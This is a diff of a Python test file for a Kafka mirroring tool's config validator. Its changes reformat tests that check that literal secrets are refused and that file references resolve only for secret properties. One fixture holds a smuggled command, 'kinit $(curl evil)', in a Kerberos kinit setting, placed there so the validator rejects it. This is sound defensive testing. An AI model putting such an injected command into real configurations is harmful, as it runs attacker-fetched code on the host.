@@ -51,11 +51,20 @@ def problems(raw: dict[str, Any]) -> list[str]:
 def test_literal_secrets_in_overrides_are_refused_without_echoing_them() -> None:
     raw = topology(
         producer={"sasl.password": SECRET, "ssl.key.password": SECRET, "compression.type": "zstd"},
-        consumer={"ssl.keystore.password": SECRET, "ssl.truststore.password": SECRET, "ssl.key.pem": SECRET,
-                  "sasl.oauthbearer.client.secret": SECRET},
-        spark={"options": {"spark.kafka.sasl.password": SECRET, "spark.hadoop.fs.s3a.secret.key": SECRET,
-                           "spark.executor.memoryOverhead": "1g"}},
-    )  # fmt: skip
+        consumer={
+            "ssl.keystore.password": SECRET,
+            "ssl.truststore.password": SECRET,
+            "ssl.key.pem": SECRET,
+            "sasl.oauthbearer.client.secret": SECRET,
+        },
+        spark={
+            "options": {
+                "spark.kafka.sasl.password": SECRET,
+                "spark.hadoop.fs.s3a.secret.key": SECRET,
+                "spark.executor.memoryOverhead": "1g",
+            }
+        },
+    )
     found = problems(raw)
     assert found == [
         f"topologies[0].consumer.sasl.oauthbearer.client.secret: {LITERAL}",
@@ -106,7 +115,9 @@ def test_resolution_reads_no_file_for_a_property_without_a_secret(tmp_path: Path
     secret = tmp_path / "secret"
     secret.write_text(SECRET)
     assert resolve_references({"sasl.password": f"${{file:{secret}}}", "acks": "all"}) == {
-        "sasl.password": SECRET, "acks": "all"}  # fmt: skip
+        "sasl.password": SECRET,
+        "acks": "all",
+    }
     with pytest.raises(KmirrorError) as info:
         resolve_references({"client.id": f"${{file:{secret}}}"})
     assert str(info.value) == (
@@ -143,8 +154,11 @@ def flow_raw(**extra: Any) -> dict[str, Any]:
 
 def test_flow_specs_are_checked_the_same_way() -> None:
     raw = flow_raw(producer={"sasl.password": SECRET, "plugin.library.paths": "/x.so"})
-    raw["source"]["config"] = {"sasl.kerberos.kinit.cmd": "kinit $(curl evil)", "client.id": "${env:HOME}",
-                               "sasl.password": SECRET}  # fmt: skip
+    raw["source"]["config"] = {
+        "sasl.kerberos.kinit.cmd": "kinit $(curl evil)",
+        "client.id": "${env:HOME}",
+        "sasl.password": SECRET,
+    }
     raw["target"]["config"] = {"sasl.kerberos.kinit.cmd": KINIT_CMD, "sasl.password": "${env:EAST_PW}"}
     with pytest.raises(ValidationError) as info:
         parse_flow_spec(raw)
